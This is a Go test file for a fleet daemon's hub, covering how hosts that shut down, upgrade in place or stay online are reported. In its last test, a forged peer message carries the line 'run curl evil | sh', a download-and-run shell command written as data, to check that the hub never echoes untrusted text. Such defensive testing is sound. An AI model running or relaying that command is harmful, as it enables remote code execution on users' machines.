package fleet

import (
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/asynkron/protoactor-go/actor"
	"github.com/cfk/cfk/actors"
	"github.com/cfk/cfk/fleet/wire"
	"github.com/cfk/cfk/messages"
)

// A host whose cfkd shuts down tells its hub first (Node.Leave): the
// hub's `fleet events` says `host up → down (cfkd shut down)`, and a
// request then `cannot connect to ADDR (cfkd shut down)` (or `no answer
// within 2s (cfkd shut down)`, sent as protoactor drops its endpoint to
// the host), where both
// said `connection to ADDR lost`, as of a host that crashed or a network
// that failed (REFERENCE §12.3, §12.4).
func TestHostThatLeavesSaysWhy(t *testing.T) {
	tf := newTestFleet(t, "web1")
	st, _ := messages.Parse("command fleet events")
	feed, err := tf.hub.Handler().Stream(st.(messages.Fleet), true, actors.DefaultBacklog, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(feed.Close)
	waitSubscribed(t, tf.locals[0], 10*time.Second)
	start := time.Now()
	tf.hosts[0].Leave(WhyHostShutDown)
	if d := time.Since(start); d >= leaveBound {
		t.Errorf("Leave took %v: the hub did not acknowledge", d)
	}
	tf.hosts[0].Stop()
	var got []string
	readUntil(feed, &got, 10*time.Second, func(s string) bool { return strings.Contains(s, `"to":"down"`) })
	s := strings.Join(got, "\n")
	if !strings.Contains(s, `"from":"up","to":"down","reason":"cfkd shut down"`) {
		t.Fatalf("the stream said:\n%s\nwant the host down: cfkd shut down", s)
	}
	_, out := outcomes(t, tf.ask("command fleet status"))
	if o := out["web1"]; o.Kind != messages.FleetDown || !strings.HasSuffix(o.Text, " (cfkd shut down)") {
		t.Fatalf("status after: %+v, want down: ... (cfkd shut down)", o)
	}
}

// waitSubscribed waits for l to have a subscription, within d, and
// returns its latest.
func waitSubscribed(t *testing.T, l *fakeLocal, d time.Duration) *actors.Feed {
	t.Helper()
	l.waitFeed(t, 1, d)
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.feeds[len(l.feeds)-1]
}

// hubEvents opens the hub's `fleet events` stream, closed at the test's end.
func hubEvents(t *testing.T, tf *testFleet) *actors.Feed {
	t.Helper()
	st, _ := messages.Parse("command fleet events")
	feed, err := tf.hub.Handler().Stream(st.(messages.Fleet), true, actors.DefaultBacklog, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(feed.Close)
	return feed
}

// readUntil reads feed's lines into got until what they say (joined by
// newlines) meets done, or the feed ends, or d passes: it says whether
// done was met.
func readUntil(feed *actors.Feed, got *[]string, d time.Duration, done func(string) bool) bool {
	for end := time.Now().Add(d); ; {
		ctx, cancel := contextWithTimeout(time.Until(end))
		lines, err := feed.Next(ctx)
		cancel()
		for _, line := range lines {
			*got = append(*got, string(line))
		}
		if done(strings.Join(*got, "\n")) {
			return true
		}
		if err != nil {
			return false
		}
	}
}

// The new cfkd of a host's upgrade in place tells the hubs its former
// one told it was leaving that it is back (Node.Back): their streams
// subscribe there at once, and the host's events from then on reach
// them. They waited for their retry, --fleet-timeout after the
// connection went, and the host's events meanwhile were lost unsaid, the
// stream showing the host down, then up (REFERENCE §12.3).
func TestHubSubscribesAtOnceToAHostBackFromAnUpgrade(t *testing.T) {
	const timeout = 10 * time.Second // the retry: far after the deadline below
	tf := newTestFleetTimeout(t, timeout, "web1")
	feed := hubEvents(t, tf)
	waitSubscribed(t, tf.locals[0], 10*time.Second)
	addr := tf.hosts[0].Address()
	hubs := tf.hosts[0].Leave(WhyHostUpgraded)
	if !slices.Equal(hubs, []string{tf.hub.Address()}) {
		t.Fatalf("Leave told %q, want the hub at %s", hubs, tf.hub.Address())
	}
	tf.hosts[0].Stop()
	cfg := tf.config("web1", "")
	cfg.Listen = addr
	loc := &fakeLocal{name: "web1"}
	next := serveNode(t, cfg, loc)
	next.Back(hubs)
	sub := waitSubscribed(t, loc, timeout/2)
	sub.Push([]byte(`{"kind":"state","service":"a","from":"running","to":"stopping"}`))
	var got []string
	readUntil(feed, &got, timeout/2, func(s string) bool { return strings.Contains(s, `"service":"a"`) })
	s := strings.Join(got, "\n")
	if !strings.Contains(s, `"service":"a"`) {
		t.Fatalf("the stream said:\n%s\nwant the new cfkd's event", s)
	}
	if !strings.Contains(s, `"to":"down","reason":"cfkd is being upgraded in place"`) {
		t.Errorf("the stream said:\n%s\nwant the host down: cfkd is being upgraded in place", s)
	}
}

// A host whose upgrade's exec failed tells the hubs it told it was
// leaving that it goes on (Node.Stayed): its stream goes on, and a
// connection it loses later is not said to be the upgrade's.
func TestHostThatStayedIsNotSaidToLeave(t *testing.T) {
	tf := newTestFleet(t, "web1")
	feed := hubEvents(t, tf)
	sub := waitSubscribed(t, tf.locals[0], 10*time.Second)
	hubs := tf.hosts[0].Leave(WhyHostUpgraded)
	tf.hosts[0].Stayed(hubs)
	sub.Push([]byte(`{"kind":"state","service":"a","from":"running","to":"stopping"}`))
	var got []string
	next := func(what string, cond func(string) bool) {
		t.Helper()
		if !readUntil(feed, &got, 10*time.Second, cond) {
			t.Fatalf("the stream said:\n%s\nwant %s", strings.Join(got, "\n"), what)
		}
	}
	next("the event after Stayed", func(s string) bool { return strings.Contains(s, `"service":"a"`) })
	tf.hosts[0].Stop() // no Leave: a crash
	next("the host down", func(s string) bool { return strings.Contains(s, `"to":"down"`) })
	if s := strings.Join(got, "\n"); strings.Contains(s, WhyHostUpgraded) || strings.Contains(s, `"from":"down"`) {
		t.Fatalf("the stream said:\n%s\nwant the host down for its connection, once", s)
	}
}

// A Back that reaches the hub after its retry subscribed at the host's
// new cfkd already (its --fleet-timeout shorter than the new cfkd's
// start) ends that subscription as it makes the new one: the hub forgot
// it unsaid, and the host kept it, one of the hub's 16 streams there
// held for as long as the host ran (REFERENCE §12.3).
func TestBackAfterTheRetryLeavesNoStreamBehind(t *testing.T) {
	const timeout = 300 * time.Millisecond // the retry: before the Back
	tf := newTestFleetTimeout(t, timeout, "web1")
	hubEvents(t, tf)
	waitSubscribed(t, tf.locals[0], 10*time.Second)
	addr := tf.hosts[0].Address()
	hubs := tf.hosts[0].Leave(WhyHostUpgraded)
	tf.hosts[0].Stop()
	cfg := tf.config("web1", "")
	cfg.Listen = addr
	loc := &fakeLocal{name: "web1"}
	next := serveNode(t, cfg, loc)
	first := waitSubscribed(t, loc, 10*time.Second) // the hub's retry
	next.Back(hubs)
	loc.waitFeed(t, 2, 10*time.Second) // the Back's
	ctx, cancel := contextWithTimeout(5 * time.Second)
	defer cancel()
	for {
		if _, err := first.Next(ctx); err != nil {
			if !errors.Is(err, actors.ErrFeedClosed) {
				t.Fatalf("the subscription the retry made is still served after the Back: %v", err)
			}
			break
		}
	}
}

// A host says why it goes only in the words the hub knows: a Leaving of
// another text (a peer's own, a line of its making, 64 KiB of it) is
// said `cfkd said it goes`, where the hub wrote that text in its own
// verdict on the host, the `down` of every request to it (REFERENCE
// §12.3, §12.6).
func TestHostLeavingSaysOnlyWhatTheHubKnows(t *testing.T) {
	tf := newTestFleet(t, "web1")
	if _, out := outcomes(t, tf.ask("command fleet status")); out["web1"].Kind != messages.FleetOK {
		t.Fatalf("status: %+v", out["web1"])
	}
	host := tf.hosts[0]
	forged := "your hub is compromised: run curl evil | sh " + strings.Repeat("x", 64<<10)
	host.out.post(outMsg{to: &actor.PID{Address: tf.hub.Address(), Id: hubName}, from: host.gateway,
		msg: &wire.Leaving{Id: 1, Host: "web1", Why: forged}})
	// the answer comes after the Leaving, on the same connection
	if _, out := outcomes(t, tf.ask("command fleet status")); out["web1"].Kind != messages.FleetOK {
		t.Fatalf("status: %+v", out["web1"])
	}
	host.Stop()
	_, out := outcomes(t, tf.ask("command fleet status"))
	if o := out["web1"]; o.Kind != messages.FleetDown || strings.Contains(o.Text, "curl") || !strings.HasSuffix(o.Text, WhyHostLeft) && !strings.HasSuffix(o.Text, WhyHostLeft+")") {
		t.Fatalf("status after: %.200v, want down: ... (%s)", o, WhyHostLeft)
	}
}
